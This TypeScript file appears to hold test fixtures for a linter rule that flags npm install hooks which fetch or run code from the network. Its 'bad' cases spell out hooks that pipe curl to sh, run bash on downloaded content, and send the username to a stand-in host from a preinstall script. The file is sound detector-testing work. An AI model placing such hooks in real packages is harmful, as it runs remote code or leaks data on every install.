import type { RuleFixtures } from '../../fixtures.ts';

export default {
  bad: [
    {
      name: 'a script from the network',
      file: 'package.json',
      code: `{\n  "name": "tool",\n  "scripts": {\n    "postinstall": "curl -s https://setup.example.com/install.sh | sh"\n  }\n}\n`,
      at: '"postinstall"',
    },
    {
      name: 'hidden code',
      file: 'package.json',
      code: `{\n  "scripts": {\n    "preinstall": "node -e \\"require('https').get('https://x.example.com/'+process.env.USER)\\""\n  }\n}\n`,
      at: '"preinstall"',
    },
    {
      name: 'a download that is not encrypted',
      file: 'package.json',
      code: `{\n  "scripts": {\n    "install": "wget http://downloads.example.com/driver.tar.gz && tar xzf driver.tar.gz"\n  }\n}\n`,
      at: '"install"',
    },
    {
      name: 'a download within a shell',
      file: 'package.json',
      code: `{\n  "scripts": {\n    "prepare": "bash -c \\"$(curl -fsSL https://setup.example.com/hooks)\\""\n  }\n}\n`,
      at: '"prepare"',
    },
  ],
  good: [
    {
      name: 'a build',
      file: 'package.json',
      code: `{\n  "name": "tool",\n  "scripts": {\n    "postinstall": "prisma generate",\n    "prepare": "husky"\n  }\n}\n`,
    },
    {
      name: 'a native module',
      file: 'package.json',
      code: `{\n  "scripts": {\n    "install": "node-gyp-build",\n    "preinstall": "npx only-allow pnpm"\n  }\n}\n`,
    },
    {
      name: 'a script that somebody starts',
      file: 'package.json',
      code: `{\n  "scripts": {\n    "setup": "curl -s https://setup.example.com/install.sh | sh",\n    "postinstall": "node scripts/link.js"\n  }\n}\n`,
    },
  ],
} satisfies RuleFixtures;
